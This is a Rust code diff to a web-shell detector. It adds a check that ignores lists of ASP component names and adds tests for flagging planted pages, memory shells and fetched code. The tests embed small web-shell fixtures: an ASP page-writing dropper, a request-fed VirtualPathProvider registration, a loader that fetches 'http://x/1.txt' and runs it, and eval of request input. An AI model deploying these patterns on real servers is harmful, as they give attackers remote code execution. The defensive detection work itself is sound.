@@ -353,7 +353,8 @@ impl CapabilityEngine {
                         capability.callee_defined_or.contains(&callee)
                             || own_procedures.get_or_insert_with(|| flow::own_procedures(code)).contains(&callee)
                     };
-                    capability.patterns.iter().find_map(|p| p.find_iter(code).find(|m| callee_allowed(m))).map(|m| {
+                    let mut found = |m: &regex::Match<'_>| callee_allowed(m) && !in_component_list(code, m.start());
+                    capability.patterns.iter().find_map(|p| p.find_iter(code).find(|m| found(m))).map(|m| {
                         // A pattern may start with the separator before its word (`(?:^|[^.\w])`).
                         let skip = m.as_str().chars().next().filter(|c| !c.is_alphanumeric()).map_or(0, char::len_utf8);
                         line_around(code, (m.start() + skip).min(m.end()))
@@ -512,6 +513,30 @@ fn server_input_sources(page: &str) -> Option<Regex> {
     crate::pattern::compile(&format!(r"\b(?:{})\.(?:Value|Text)\b", ids.join("|"))).ok()
 }
 
+/// Whether `offset` is inside a literal of a list of class names (`Array("Scripting.FileSystemObject",
+/// "WScript.Shell", ...)`): pages that report which components the server has try each
+/// name in turn, which is not using any of them.
+fn in_component_list(code: &str, offset: usize) -> bool {
+    static PROG_ID: LazyLock<Regex> = LazyLock::new(|| {
+        crate::pattern::builtin(r#"(?:^|[(,{\[])\s*"[A-Za-z][\w-]*\.[A-Za-z][\w.-]*"\s*(?:$|[),}\]])"#)
+    });
+    let start = code[..offset].rfind('\n').map_or(0, |i| i + 1);
+    let end = code[offset..].find('\n').map_or(code.len(), |i| offset + i);
+    let line = &code[start..end];
+    if !flow::inside_literal(line, offset - start) {
+        return false;
+    }
+    // Each name is a literal of its own between list separators; four make a list.
+    let mut names = 0;
+    let mut at = 0;
+    while let Some(m) = PROG_ID.find_at(line, at) {
+        names += 1;
+        // The separator after a name starts the next one.
+        at = m.end().saturating_sub(1).max(m.start() + 1);
+    }
+    names >= 4
+}
+
 /// The line of `code` holding `offset`, bounded, for evidence.
 fn line_around(code: &str, offset: usize) -> String {
     let start = code[..offset].rfind('\n').map_or(0, |i| i + 1);
@@ -535,6 +560,19 @@ mod tests {
             let dialect = if code.contains(';') { Dialect::CLike } else { Dialect::Vb };
             self.assess(code, code, dialect, path)
         }
+    }
+
+    #[test]
+    fn a_list_of_components_tried_in_turn_is_not_their_use() {
+        let e = engine();
+        let probe = "c=Array(\"Scripting.FileSystemObject\",\"ADODB.Stream\",\"WScript.Shell\",\"Persits.Upload\")\n\
+                     For Each n In c\nSet o=Server.CreateObject(n)\nNext";
+        assert!(e.assess_code(probe, "/x/a.asp").iter().all(|s| s.id != "process-creation"));
+        // The same names used one by one are used.
+        let used = format!("{probe}\nSet sh=Server.CreateObject(\"WScript.Shell\")");
+        assert!(e.assess_code(&used, "/x/a.asp").iter().any(|s| s.id == "process-creation"));
+        let pair = "c=Array(\"ADODB.Stream\",\"WScript.Shell\")";
+        assert!(e.assess_code(pair, "/x/a.asp").iter().any(|s| s.id == "process-creation"));
     }
 
     #[test]
@@ -621,6 +659,36 @@ mod tests {
         let memshell = "HostingEnvironment.RegisterVirtualPathProvider(new P());\nAssembly.Load(bytes);";
         assert!(ids(&e.assess_code(memshell, "/x/a.aspx")).contains(&"memory-shell-registration"));
         assert!(!ids(&e.assess_code(memshell, "/x/Global.asax")).contains(&"memory-shell-registration"));
+    }
+
+    #[test]
+    fn pages_planted_memory_shells_configured_and_code_fetched_to_run() {
+        let e = engine();
+        let dropper = "shell=request(\"txt\")\nset f=fso.CreateTextFile(Server.MapPath(\"up.asp\"))\nf.Write(shell)";
+        let shown = e.assess_code(dropper, "/x/a.asp");
+        assert!(ids(&shown).contains(&"request-page-write") && e.severity(&shown) >= Some(Severity::High));
+        // An installer writes its own code with the visitor's values in it; a page saving the
+        // visitor's text as .txt plants nothing.
+        let installer = "set f=fso.CreateTextFile(Server.MapPath(\"conn.asp\"))\n\
+                         f.Write(\"<\"&\"% db=\"\"\"&request(\"db\")&\"\"\" %\"&\">\")";
+        assert!(!ids(&e.assess_code(installer, "/x/a.asp")).contains(&"request-page-write"));
+        let note = "set f=fso.CreateTextFile(Server.MapPath(\"note.txt\"))\nf.Write(request(\"t\"))";
+        assert!(!ids(&e.assess_code(note, "/x/a.asp")).contains(&"request-page-write"));
+        let cs = "File.WriteAllText(Server.MapPath(\"~/x.aspx\"), Request.Form[\"t\"]);";
+        assert!(ids(&e.assess_code(cs, "/x/a.aspx")).contains(&"request-page-write"));
+
+        let vpp = "string b=Request.Form[\"body\"];\nHostingEnvironment.RegisterVirtualPathProvider(new P(b));";
+        let shown = e.assess_code(vpp, "/x/a.aspx");
+        assert!(ids(&shown).contains(&"request-memory-shell") && e.severity(&shown) >= Some(Severity::High));
+        let fixed = "HostingEnvironment.RegisterVirtualPathProvider(new P(ConfigurationManager.AppSettings[\"r\"]));";
+        assert!(!ids(&e.assess_code(fixed, "/x/a.aspx")).contains(&"request-memory-shell"));
+
+        let loader = "Function G(u)\nSet h=CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.open \"GET\",u,False\nh.send\n\
+                      G=h.responseText\nEnd Function\nc=G(\"http://x/1.txt\")\nExecute c";
+        assert!(e.assess_code(loader, "/x/a.asp").iter().any(|s| s.id == "fetched-code-run" && s.decisive));
+        // A callback named by the page, or JSON from an API, is the page's own code.
+        let callback = "Function G(u)\nG=h.responseText\nEnd Function\nv=G(u)\nExecute(\"Call \"&v)";
+        assert!(!ids(&e.assess_code(callback, "/x/a.asp")).contains(&"fetched-code-run"));
     }
 
     #[test]
@@ -806,6 +874,11 @@ mod tests {
         assert!(e.assess(hex, "", Dialect::Vb, "/x/a.asp").iter().all(|s| !s.decisive));
         let json = "function parse(t){return eval(\"(\"+t+\")\");}\nvar o=parse(Request.Form(\"j\"));";
         assert!(e.assess(json, "", Dialect::CLike, "/x/a.asp").iter().all(|s| !s.decisive));
+        let declared = "var s=Request.Form(\"j\")+\"\";\neval(\"var _t=(\"+s+\");\");";
+        assert!(e.assess(declared, "", Dialect::CLike, "/x/a.asp").iter().all(|s| !s.decisive));
+        // Execute(name & "=value") sets a variable the page names at run time.
+        let setter = "fn=Request(\"f\")\nexecute(fn&\"=fv\")";
+        assert!(e.assess(setter, "", Dialect::Vb, "/x/a.asp").iter().all(|s| !s.decisive));
         // but the same evaluators of request data still are
         let shell = "s=Request(\"q\")\nv=eval(s)";
         assert!(e.assess(shell, "", Dialect::Vb, "/x/a.asp").iter().any(|s| s.decisive));
